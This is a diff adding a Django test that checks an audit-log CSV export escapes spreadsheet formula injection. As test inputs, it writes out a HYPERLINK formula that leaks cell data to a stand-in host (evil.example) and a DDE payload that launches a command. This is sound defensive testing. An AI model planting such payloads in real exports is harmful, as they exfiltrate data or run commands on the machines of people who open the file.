@@ -371,6 +371,25 @@ def test_it_exports_the_audit_log_as_csv(ready_entry: ReadyEntry, moderator: obj
     ]
 
 
+def test_it_neutralises_formulas_in_the_audit_csv(
+    ready_entry: ReadyEntry, moderator: object
+) -> None:
+    """A rider's title or a moderator's note that a spreadsheet would run as a formula is
+    exported as text."""
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'
+    _refuse(ready_entry(title=evil), moderator, reason="other", note="+cmd|' /C calc'!A0")
+    _approve(ready_entry(seed=2, title="@SUM(1+1)"), moderator)
+    client = Client()
+    client.force_login(moderator)  # type: ignore[arg-type]
+    response = client.get(reverse("moderation:audit_csv"))
+    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert [r["title"] for r in rows] == ["'" + evil, "'@SUM(1+1)"]
+    assert rows[0]["note"] == "'+cmd|' /C calc'!A0"
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+
 def test_it_warns_about_a_near_duplicate(
     ready_entry: ReadyEntry, moderator: object, other_entrant: Participant
 ) -> None:
